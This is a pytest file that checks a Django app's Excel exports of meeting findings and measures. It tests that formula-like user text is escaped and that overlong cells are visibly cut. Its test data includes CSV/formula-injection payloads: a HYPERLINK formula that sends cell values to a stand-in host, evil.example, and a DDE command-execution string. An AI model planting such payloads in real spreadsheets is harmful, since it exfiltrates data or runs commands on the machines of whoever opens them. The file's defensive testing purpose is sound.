"""导出台账 writes user text as text: no live formula in any cell, no silent cut."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from meetings.exports import CELL_LIMIT, CUT, cell_text

from ..documents import export_ledger
from ..factories import MeasureFactory, MeetingFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&C2&D2,"点击查看详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",  # (a leading CR is stored as a line break: it cannot start a cell)
]


def download(client, kind):
    return export_ledger(client, kind)[1]


def sheet_xml(payload):
    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_no_text_column_of_either_ledger_becomes_a_formula(client, world):
    meeting = MeetingFactory(organisation=world.branch)
    for text in FORMULAS:
        MeasureFactory(
            finding__meeting=meeting,
            finding__title=text,
            finding__details=text,
            content=text,
            responsible_dept=text[:100],
            progress_note=text,
        )
    client.force_login(world.reviewer)  # the department's export covers every branch
    for kind, sheet in (("findings", "问题台账"), ("measures", "整改台账")):
        payload = download(client, kind)
        assert "<f>" not in sheet_xml(payload) and "<f " not in sheet_xml(payload)
        rows = list(load_workbook(io.BytesIO(payload))[sheet].values)[1:]
        texts = [value for row in rows for value in row if isinstance(value, str)]
        for text in FORMULAS:
            assert texts.count("'" + text) >= 2, (kind, text)  # kept whole, escaped
        assert not [t for t in texts if re.match(r"[=+\-@\t\r]", t)]


def test_a_100000_character_cell_is_visibly_cut():
    text = "长" * 100_000
    cell = cell_text(text)
    assert len(cell) == CELL_LIMIT and cell.endswith(CUT)
    assert cell_text("正常的文字") == "正常的文字" and cell_text(3) == 3


def test_a_long_details_text_in_the_ledger_is_marked_as_cut(client, world):
    MeasureFactory(finding__meeting__organisation=world.branch, finding__details="长" * 100_000)
    client.force_login(world.secretary)
    rows = list(load_workbook(io.BytesIO(download(client, "findings")))["问题台账"].values)
    details = rows[1][3]
    assert len(details) == CELL_LIMIT and details.endswith("…（全文见系统）")
